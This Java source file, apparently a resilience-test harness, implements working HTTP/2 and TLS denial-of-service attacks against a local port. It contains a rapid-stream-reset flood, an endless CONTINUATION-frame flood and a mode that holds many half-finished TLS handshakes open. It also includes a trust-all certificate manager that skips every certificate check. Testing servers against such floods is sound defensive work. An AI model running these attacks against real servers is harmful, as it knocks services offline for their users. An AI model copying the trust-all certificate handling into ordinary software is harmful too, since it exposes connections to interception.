// SPDX-License-Identifier: Apache-2.0
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.security.GeneralSecurityException;
import java.security.cert.X509Certificate;
import java.util.Arrays;
import java.util.concurrent.atomic.AtomicInteger;

import javax.net.ssl.SSLContext;
import javax.net.ssl.SSLEngine;
import javax.net.ssl.SSLParameters;
import javax.net.ssl.SSLSocket;
import javax.net.ssl.TrustManager;
import javax.net.ssl.X509ExtendedTrustManager;

/**
 * Attacks a TLS port that speaks HTTP/2, again and again until standard input ends.
 *
 * <p>{@code java Attack resets PORT N} opens N streams on one connection and resets each at once; {@code continuations}
 * sends a header block of N CONTINUATION frames that does not end; both begin anew on another connection twice a second.
 * {@code handshakes} holds N clients in half a TLS handshake: half of them after half a ClientHello, the others after all
 * of it; where the server closes one, another takes its place. Prints "attacking" once the first round is over, and at the
 * end how many connections it has made and how many of them the server closed before all was sent.
 */
final class Attack {

    private static final long PAUSE_MS = 500;
    private static final int CHUNK = 16 << 10;

    private final int port;
    private final int count;
    private final AtomicInteger connections = new AtomicInteger();
    private final AtomicInteger ended = new AtomicInteger();

    private Attack(int port, int count) {
        this.port = port;
        this.count = count;
    }

    public static void main(String[] arguments) throws Exception {
        Attack attack = new Attack(Integer.parseInt(arguments[1]), Integer.parseInt(arguments[2]));
        switch (arguments[0]) {
            case "resets" -> attack.flood(attack.resets());
            case "continuations" -> attack.flood(attack.continuations());
            case "handshakes" -> attack.hold();
            default -> throw new IllegalArgumentException(arguments[0]);
        }
        System.out.println("attacking");
        while (System.in.read() >= 0) {
            // Nothing is said to this program but the end.
        }
        System.out.println(
                attack.connections
                        + " connections, "
                        + attack.ended
                        + " closed by the server early");
        System.exit(0);
    }

    // ---- floods of frames

    /** Returns once the first flood is over. */
    private void flood(byte[] frames) throws Exception {
        SSLContext tls = trustingAll();
        floodOnce(tls, frames);
        Thread.ofPlatform()
                .daemon()
                .start(
                        () -> {
                            while (true) {
                                floodOnce(tls, frames);
                            }
                        });
    }

    private void floodOnce(SSLContext tls, byte[] frames) {
        connections.incrementAndGet();
        try (SSLSocket socket =
                (SSLSocket) tls.getSocketFactory().createSocket("127.0.0.1", port)) {
            SSLParameters parameters = socket.getSSLParameters();
            parameters.setApplicationProtocols(new String[] {"h2"});
            socket.setSSLParameters(parameters);
            socket.startHandshake();
            Thread reader = Thread.ofVirtual().start(() -> drain(socket));
            OutputStream out = socket.getOutputStream();
            for (int sent = 0; sent < frames.length; sent += CHUNK) {
                out.write(frames, sent, Math.min(CHUNK, frames.length - sent));
            }
            reader.join(PAUSE_MS);
        } catch (IOException e) {
            ended.incrementAndGet();
        } catch (InterruptedException e) {
            throw new AssertionError(e);
        }
        pause();
    }

    private static void pause() {
        try {
            Thread.sleep(PAUSE_MS);
        } catch (InterruptedException e) {
            throw new AssertionError(e);
        }
    }

    private static void drain(Socket socket) {
        try {
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        } catch (IOException closed) {
            // as expected
        }
    }

    private byte[] resets() {
        ByteArrayOutputStream all = preface();
        for (int i = 0; i < count; i++) {
            frame(all, 1, 5, 2 * i + 1, headers());
            frame(all, 3, 0, 2 * i + 1, new byte[] {0, 0, 0, 8});
        }
        return all.toByteArray();
    }

    private byte[] continuations() {
        ByteArrayOutputStream all = preface();
        frame(all, 1, 1, 1, headers());
        byte[] field = {0, 3, 'x', '-', 'a', 1, 'b'};
        for (int i = 0; i < count; i++) {
            frame(all, 9, 0, 1, field);
        }
        return all.toByteArray();
    }

    private static ByteArrayOutputStream preface() {
        ByteArrayOutputStream all = new ByteArrayOutputStream();
        all.writeBytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        frame(all, 4, 0, 0, new byte[0]);
        return all;
    }

    /** GET https://localhost/hello, without Huffman's code. */
    private static byte[] headers() {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.writeBytes(new byte[] {(byte) 0x82, (byte) 0x87, 0x04, 6});
        block.writeBytes("/hello".getBytes(StandardCharsets.US_ASCII));
        block.writeBytes(new byte[] {0x01, 9});
        block.writeBytes("localhost".getBytes(StandardCharsets.US_ASCII));
        return block.toByteArray();
    }

    private static void frame(
            ByteArrayOutputStream to, int type, int flags, int stream, byte[] payload) {
        to.writeBytes(
                ByteBuffer.allocate(9 + payload.length)
                        .put((byte) (payload.length >> 16))
                        .putShort((short) payload.length)
                        .put((byte) type)
                        .put((byte) flags)
                        .putInt(stream)
                        .put(payload)
                        .array());
    }

    // ---- half handshakes

    /** Returns once all are there. */
    private void hold() throws Exception {
        byte[] hello = hello();
        AtomicInteger open = new AtomicInteger();
        for (int i = 0; i < count; i++) {
            byte[] sent = i % 2 == 0 ? hello : Arrays.copyOf(hello, hello.length / 2);
            Thread.ofVirtual().start(() -> holdForEver(sent, open));
        }
        while (open.get() < count) {
            Thread.sleep(20);
        }
    }

    private void holdForEver(byte[] sent, AtomicInteger open) {
        while (true) {
            connections.incrementAndGet();
            try (Socket socket = new Socket()) {
                socket.connect(new InetSocketAddress(InetAddress.getLoopbackAddress(), port));
                socket.getOutputStream().write(sent);
                open.incrementAndGet();
                InputStream in = socket.getInputStream();
                while (in.read() >= 0) {
                    // the server's part of the handshake
                }
            } catch (IOException closed) {
                // another one
            }
            open.decrementAndGet();
            ended.incrementAndGet();
        }
    }

    private static byte[] hello() throws Exception {
        SSLEngine engine = SSLContext.getDefault().createSSLEngine("localhost", 443);
        engine.setUseClientMode(true);
        ByteBuffer record = ByteBuffer.allocate(engine.getSession().getPacketBufferSize());
        engine.wrap(ByteBuffer.allocate(0), record);
        return Arrays.copyOf(record.array(), record.position());
    }

    // ---- TLS

    /** Takes the servers' own certificates, which nobody has signed. */
    static SSLContext trustingAll() {
        try {
            SSLContext context = SSLContext.getInstance("TLS");
            context.init(null, new TrustManager[] {new TrustingAll()}, null);
            return context;
        } catch (GeneralSecurityException e) {
            throw new AssertionError(e);
        }
    }

    private static final class TrustingAll extends X509ExtendedTrustManager {

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type, Socket socket) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type, Socket socket) {}

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type, SSLEngine engine) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type, SSLEngine engine) {}

        @Override
        public void checkClientTrusted(X509Certificate[] chain, String type) {}

        @Override
        public void checkServerTrusted(X509Certificate[] chain, String type) {}

        @Override
        public X509Certificate[] getAcceptedIssuers() {
            return new X509Certificate[0];
        }
    }
}
